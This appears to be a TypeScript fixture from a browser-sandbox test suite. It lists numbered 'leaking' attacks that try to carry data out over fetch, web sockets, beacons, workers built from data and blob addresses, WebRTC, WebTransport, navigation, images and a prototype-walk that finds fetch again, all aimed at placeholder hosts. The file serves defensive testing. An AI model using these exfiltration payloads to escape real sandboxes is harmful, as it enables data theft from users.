/** E: carry something out, or keep something, over any wire or store that a browser has. */
import { type Attack, row } from './attack.ts';

const zero = 'function f(){return 0}';
const attempt = (code: string): string => `try{${code}}catch(e){}${zero}`;

export const leaking: Attack[] = [
  row('E01', 'fetch', attempt('fetch("__HTTP__/leak?fetch",{mode:"no-cors"}).catch(()=>{})')),
  row('E03', 'importScripts', attempt('importScripts("__HTTP__/leak?is")')),
  row('E05', 'a web socket', attempt('new WebSocket("__WS__/leak?ws")')),
  row('E07', 'a font', attempt('new FontFace("a","url(__HTTP__/leak?font)").load().catch(()=>{})')),
  row(
    'E09',
    'a worker from a data address',
    attempt('new Worker("data:text/javascript,fetch(`__HTTP__/leak?dw`)")'),
  ),
  row(
    'E11',
    'navigation',
    `try{location="__HTTP__/leak?nav"}catch(e){}try{location.href="__HTTP__/leak?nav2"}catch(e){}${zero}`,
  ),
  row(
    'E13',
    'stores',
    `try{indexedDB.open("x")}catch(e){}try{caches.open("x").catch(()=>{})}catch(e){}try{navigator.storage.getDirectory().catch(()=>{})}catch(e){}${zero}`,
  ),
  row(
    'E31',
    'XMLHttpRequest',
    attempt('const x=new XMLHttpRequest();x.open("GET","__HTTP__/leak?xhr",false);x.send()'),
  ),
  row('E32', 'an event source', attempt('new EventSource("__HTTP__/leak?es")')),
  row('E33', 'a beacon', attempt('navigator.sendBeacon("__HTTP__/leak?beacon","x")')),
  row('E34', 'a dynamic import', `import("__HTTP__/leak?import").catch(()=>{});${zero}`),
  row(
    'E35',
    'a peer connection',
    attempt(
      'const p=new RTCPeerConnection({iceServers:[{urls:"stun:__UDP__"}]});p.createDataChannel("x");p.createOffer().then(o=>p.setLocalDescription(o))',
    ),
  ),
  row('E36', 'web transport', attempt('new WebTransport("https://__UDP__/leak")')),
  row('E37', 'a web socket stream', attempt('new WebSocketStream("__WS__/leak?wss")')),
  row('E38', 'an image', attempt('new Image().src="__HTTP__/leak?img"')),
  row('E39', 'the document', attempt('document.body.innerHTML="<img src=__HTTP__/leak?doc>"')),
  row(
    'E40',
    'fetch found again on the prototypes of the global',
    attempt(
      'for(let p=globalThis;p;p=Object.getPrototypeOf(p))for(const k of Reflect.ownKeys(p))if(/fetch|import|Socket|Worker|XML/i.test(String(k)))try{p[k]("__HTTP__/leak?proto")}catch(e){try{new p[k]("__HTTP__/leak?proto")}catch(e){}}',
    ),
  ),
  row(
    'E41',
    'a nested worker from a blob',
    attempt('new Worker(URL.createObjectURL(new Blob(["fetch(\'__HTTP__/leak?nested\')"])))'),
  ),
  row(
    'E42',
    'cookies and local storage',
    attempt('document.cookie="a=1";localStorage.a=1;cookieStore.set("a","1")'),
  ),
  row('E43', 'WebAssembly', attempt('WebAssembly.instantiateStreaming(fetch("__HTTP__/leak?wasm"))')),
  row('E44', 'the opener and the parent', attempt('(opener||parent||top).location="__HTTP__/leak?parent"')),
  row(
    'E45',
    'notifications, locks and the clipboard',
    attempt(
      'new Notification("x",{icon:"__HTTP__/leak?n"});navigator.locks.request("x",()=>new Promise(()=>{}));navigator.clipboard.writeText("x")',
    ),
  ),
];
